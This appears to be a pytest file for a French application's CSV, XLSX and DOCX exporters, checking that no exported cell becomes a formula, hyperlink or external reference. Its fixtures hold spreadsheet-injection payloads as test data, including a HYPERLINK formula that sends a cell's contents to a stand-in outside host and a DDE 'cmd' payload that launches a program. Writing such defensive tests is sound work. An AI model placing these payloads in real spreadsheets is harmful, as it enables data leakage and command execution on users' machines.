"""CSV, XLSX and DOCX: all the rows, nothing that runs."""

import csv
import dataclasses
import io
import zipfile
from xml.etree.ElementTree import fromstring

import openpyxl
import pytest
from docx import Document

from answers import Citation, Row
from answers.exports.sheets import neutral, rows_to_csv, rows_to_xlsx
from answers.exports.word import fiches_to_docx, fiches_to_xlsx
from corpus import Fiche
from indexer import Span

EVIL = '=HYPERLINK("http://x";"y")'
FICHE = Fiche.from_dict(
    {
        "id": "a-1",
        "title": EVIL,
        "organiser": "Centre; « Les Lilas »",
        "departement": "Lot",
        "source": "Site",
        "sections": {"Résumé": "+33 appels\nfin\x07", "Public": "Seniors"},
        "publics": ["Seniors"],
        "origin": "modele",
    }
)
ROWS = (Row(FICHE, Citation(FICHE, Span("Résumé", 0, 10))), Row(FICHE, None))


def test_csv_keeps_every_row_and_says_what_is_not_given():
    lines = list(csv.DictReader(io.StringIO(rows_to_csv(ROWS).lstrip("\ufeff")), delimiter=";"))
    assert [line["Citation"] for line in lines] == ["'+33 appels", "non renseigné"]
    assert lines[0]["Structure"] == "Centre; « Les Lilas »"


def sheet_xml(data):
    """The raw XML of the first sheet: what a spreadsheet reads, not what a library says of it."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return {name: fromstring(book.read(name)) for name in book.namelist()}  # noqa: S314 - ours


HOSTILE = Fiche.from_dict(
    {
        "id": "b-1",
        "title": "=1+1\x1b[31m\ufffe",
        "organiser": "@SUM(A1)\x9b",
        "origin": "banque",
        "url": "javascript:alert(1)",
        "sections": {
            '=HYPERLINK("//ailleurs.example/?"&A2,"ouvrir") :': "-2+3\u202e",
            "Titre": "une rubrique qui porte le nom d'une colonne",
            "long": "é😀" * 20_000,
            "code": "_x001B_[2J",
            "\x00\x0b\uffff=bruit": "\x08=cmd|' /C calc'!A0",
        },
    }
)
HOSTILE = dataclasses.replace(HOSTILE, departement="Lot\ud800")


def test_no_cell_is_a_formula_and_no_apostrophe_is_added():
    label = '=HYPERLINK("//ailleurs.example/?"&A2,"ouvrir") :'
    row = Row(HOSTILE, Citation(HOSTILE, Span(label, 0, 4)))
    for data in (rows_to_xlsx([row, *ROWS]), fiches_to_xlsx([FICHE, HOSTILE])):
        files = sheet_xml(data)
        tags = {node.tag.rpartition("}")[2] for root in files.values() for node in root.iter()}
        assert not tags & {"f", "hyperlink", "definedName", "externalReference"}
        sheet = files["xl/worksheets/sheet1.xml"]
        kinds = {cell.get("t") for cell in sheet.iter() if cell.tag.endswith("}c")}
        assert kinds <= {"s", "inlineStr"}
        said = {str(cell.value) for line in cells(data) for cell in line}
        assert label in said
        assert EVIL in said
        assert not any(text.startswith("'") for text in said)
        marked = {str(cell.value) for line in cells(data) for cell in line if cell.quotePrefix}
        assert {label, EVIL} <= marked


def cells(data):
    return list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())


def test_a_hostile_fiche_loses_no_column_and_says_where_it_was_cut():
    header, line = cells(fiches_to_xlsx([HOSTILE]))
    row = {
        str(cell.value): str(cell.value and other.value)
        for cell, other in zip(header, line, strict=True)
    }
    assert row["Titre"] == "=1+1[31m"
    assert row["Titre (rubrique)"] == "une rubrique qui porte le nom d'une colonne"
    assert row["code"] == "_x005F_x001B_[2J"
    assert row["Département"] == "Lot"
    assert row["=bruit"].startswith("=cmd")
    assert row["long"].endswith("(texte coupé : une cellule n'en contient pas davantage)")
    assert len(row["long"].encode("utf-16-le")) // 2 <= 32_767


def test_a_fiche_of_very_many_rubrics_is_still_a_sheet():
    sections = {f"Rubrique {number}": f"texte {number}" for number in range(20_000)}
    fiche = Fiche.from_dict({"id": "c", "title": "t", "origin": "banque", "sections": sections})
    header, line = cells(fiches_to_xlsx([fiche]))
    row = {str(cell.value): str(other.value) for cell, other in zip(header, line, strict=True)}
    assert row["Rubrique 7"] == "texte 7"
    assert "Rubrique 1200 : texte 1200" in row["Autres rubriques"]


def test_every_writer_takes_any_character():
    every = "".join(map(chr, (*range(0x20), 0x7F, 0x9B, 0xD800, 0xDFFF, 0xFFFE, 0xFFFF, 0x202E)))
    fiche = dataclasses.replace(HOSTILE, source=every, sections={f"r{every}": f"a{every}b"})
    row = Row(fiche, Citation(fiche, Span(f"r{every}", 0, len(every) + 2)))
    rows_to_csv([row]).encode("utf-8")
    assert cells(rows_to_xlsx([row]))
    assert cells(fiches_to_xlsx([fiche]))
    assert Document(io.BytesIO(fiches_to_docx([fiche]))).paragraphs


def test_a_cell_of_csv_is_neutral_once_its_controls_are_gone():
    [line] = csv.DictReader(
        io.StringIO(rows_to_csv([Row(HOSTILE, None)]).lstrip("\ufeff")), delimiter=";"
    )
    assert line["Titre"] == "'=1+1[31m"
    assert line["Structure"] == "'@SUM(A1)"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@a", "\t=1", " =1", "\ufeff=1", "＝1"])
def test_neutral(text):
    assert neutral(text) == f"'{text}"


def test_neutral_leaves_plain_text():
    assert neutral("12 familles") == "12 familles"


def test_docx_says_title_facts_text_and_origin():
    document = Document(io.BytesIO(fiches_to_docx([FICHE])))
    text = "\n".join(p.text for p in document.paragraphs)
    facts = {row.cells[0].text: row.cells[1].text for row in document.tables[0].rows}
    assert EVIL in text
    assert "+33 appels" in text
    assert "Exemple inventé" in text
    assert facts["Département"] == "Lot"
    assert facts["Source"] == "Site"


def test_nothing_selected_is_said():
    with pytest.raises(ValueError, match="aucune fiche"):
        fiches_to_docx([])
